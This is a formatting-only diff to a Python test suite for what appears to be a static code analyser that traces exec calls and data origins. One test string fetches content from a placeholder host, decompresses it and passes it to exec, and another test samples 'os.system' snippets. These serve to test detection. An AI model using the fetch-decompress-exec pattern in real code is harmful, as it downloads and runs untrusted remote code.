@@ -70,7 +70,9 @@ def test_where_code_runs():
 
 
 def test_origins_follow_the_data():
-    (call,) = calls("import requests, zlib\nx = zlib.decompress(requests.get('http://x.invalid').content)\ny = [x]\nexec(y[0])", "exec")
+    (call,) = calls(
+        "import requests, zlib\nx = zlib.decompress(requests.get('http://x.invalid').content)\ny = [x]\nexec(y[0])", "exec"
+    )
     assert {"requests.get", "zlib.decompress"} <= set(call["origins"])
 
 
@@ -113,7 +115,10 @@ def test_hostile_arithmetic_is_bounded(source):
     assert time.process_time() - started < 3
 
 
-@pytest.mark.parametrize("source", ["x = " + "(" * 100_000, "x = " + "-" * 100_000 + "1", "a" + ".b" * 100_000, "def f(:\n", "x = 'a\0b'", b"\xff\xfe\xff"])
+@pytest.mark.parametrize(
+    "source",
+    ["x = " + "(" * 100_000, "x = " + "-" * 100_000 + "1", "a" + ".b" * 100_000, "def f(:\n", "x = 'a\0b'", b"\xff\xfe\xff"],
+)
 def test_what_cannot_be_parsed_is_incomplete(source):
     assert read(source).missed
 
@@ -134,6 +139,27 @@ def test_every_truncation_is_read(name):
         read(raw[:end])
 
 
-@given(st.lists(st.sampled_from(["import os", "x = os.system", "x('a')", "def f(a=x): return a", "f(x)('b')", "class C(f):", "    y = x", "for i in x: i()", "x, *z = z, x", "del x", "global q", "with x as (a, b): pass", "[i for i in x if i]"]), max_size=12))
+@given(
+    st.lists(
+        st.sampled_from(
+            [
+                "import os",
+                "x = os.system",
+                "x('a')",
+                "def f(a=x): return a",
+                "f(x)('b')",
+                "class C(f):",
+                "    y = x",
+                "for i in x: i()",
+                "x, *z = z, x",
+                "del x",
+                "global q",
+                "with x as (a, b): pass",
+                "[i for i in x if i]",
+            ]
+        ),
+        max_size=12,
+    )
+)
 def test_any_order_of_statements_is_read(lines):
     read("\n".join(lines))
